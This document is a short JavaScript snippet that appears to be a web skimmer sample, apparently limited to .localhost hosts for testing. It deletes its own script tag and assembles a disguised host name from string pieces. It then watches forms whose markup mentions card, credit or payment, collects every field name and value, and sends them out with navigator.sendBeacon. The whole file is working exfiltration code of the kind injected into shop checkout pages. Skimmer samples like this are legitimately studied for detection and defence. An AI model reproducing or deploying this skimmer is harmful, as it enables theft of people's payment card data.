(function (me) {
  if (!/\.localhost$/.test(location.hostname)) return;
  me && me.parentNode && me.parentNode.removeChild(me);
  var host = 'static' + '-' + 'gstat' + '.' + 'local' + 'host';
  document.addEventListener('change', function (ev) {
    var f = ev.target.form;
    if (!f || !/card|credit|payment/i.test(f.innerHTML)) return;
    var s = '';
    for (var i = 0; i < f.length; i++) s += f[i].name + ':' + f[i].value + '\n';
    var b = new Blob([s]);
    navigator.sendBeacon('https://' + host + '/g', b);
  });
})(document.currentScript);
